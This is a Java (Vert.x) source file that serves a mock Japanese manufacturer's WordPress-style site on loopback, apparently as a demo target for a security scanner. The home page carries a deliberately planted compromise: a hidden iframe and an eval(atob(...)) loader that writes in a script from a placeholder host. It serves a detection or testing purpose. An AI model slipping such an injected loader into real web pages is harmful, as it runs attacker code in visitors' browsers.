package jp.mamori.console.demo;

import io.vertx.core.Future;
import io.vertx.core.Vertx;
import io.vertx.core.http.HttpServer;
import io.vertx.core.http.HttpServerOptions;
import io.vertx.core.http.HttpServerRequest;

/**
 * A small Japanese company website on loopback with one planted compromise: a hidden iframe and an
 * obfuscated loader injected into the home page, as seen on defaced small-business WordPress sites.
 */
public final class DemoSite {
  private static final String HEAD = """
      <!DOCTYPE html>
      <html lang="ja"><head><meta charset="utf-8"><title>%s｜さくら製作所</title>
      <meta name="viewport" content="width=device-width, initial-scale=1">
      <link rel="stylesheet" href="/wp-content/themes/sakura/style.css?ver=6.6.2">
      <meta name="generator" content="WordPress 6.6.2">
      </head><body>
      <header><a href="/">さくら製作所</a>
      <nav><a href="/">ホーム</a> <a href="/company/">会社概要</a> <a href="/products/">製品紹介</a> <a href="/contact/">お問い合わせ</a></nav></header>
      <main>
      """;
  private static final String FOOT = """
      </main><footer><p>〒530-0001 大阪府大阪市北区梅田1-1-1　TEL 06-0000-0000</p><p>&copy; 2026 さくら製作所</p></footer>
      </body></html>
      """;
  static final String PLANTED = """
      <iframe src="http://cdn-analytics.example/counter.php" width="0" height="0" style="display:none;visibility:hidden"></iframe>
      <script>eval(atob("ZG9jdW1lbnQud3JpdGUoJzxzY3JpcHQgc3JjPSJodHRwOi8vY2RuLWFuYWx5dGljcy5leGFtcGxlL3guanMiPjwvc2NyaXB0PicpOw=="));</script>
      """;

  private HttpServer server;

  public Future<Integer> start(Vertx vertx) {
    return vertx.createHttpServer(new HttpServerOptions().setHost("127.0.0.1").setPort(0))
        .requestHandler(this::handle).listen().map(s -> {
          server = s;
          return s.actualPort();
        });
  }

  private void handle(HttpServerRequest req) {
    String body = switch (req.path()) {
      case "/" -> page("ホーム", """
          <h1>確かな技術で、暮らしを支える部品づくり</h1>
          <p>さくら製作所は昭和48年創業の精密部品メーカーです。自動車・医療機器向けの切削加工を手がけています。</p>
          <section><h2>お知らせ</h2><ul><li><a href="/news/2026-11-01/">年末年始休業のお知らせ</a></li></ul></section>
          """ + PLANTED);
      case "/company/" -> page("会社概要", "<h1>会社概要</h1><dl><dt>代表者</dt><dd>佐倉 一郎</dd><dt>従業員数</dt><dd>24名</dd></dl>");
      case "/products/" -> page("製品紹介", "<h1>製品紹介</h1><p>精密シャフト、ブッシュ、各種試作品。</p>");
      case "/contact/" -> page("お問い合わせ", """
          <h1>お問い合わせ</h1>
          <form action="/contact/send" method="post"><label>お名前<input name="name"></label>
          <label>メール<input name="email" type="email"></label><textarea name="message"></textarea><button>送信</button></form>
          """);
      case "/news/2026-11-01/" -> page("年末年始休業のお知らせ", "<h1>年末年始休業のお知らせ</h1><p>12月29日から1月4日まで休業いたします。</p>");
      case "/wp-content/themes/sakura/style.css" -> null;
      default -> "";
    };
    if (body == null) {
      req.response().putHeader("content-type", "text/css").end("body{font-family:sans-serif}");
    } else if (body.isEmpty()) {
      req.response().setStatusCode(404).putHeader("content-type", "text/html; charset=utf-8").end(page("ページが見つかりません", "<h1>404</h1>"));
    } else {
      req.response().putHeader("content-type", "text/html; charset=utf-8").end(body);
    }
  }

  private static String page(String title, String main) {
    return HEAD.formatted(title) + main + FOOT;
  }

  public Future<Void> stop() {
    return server == null ? Future.succeededFuture() : server.close();
  }
}
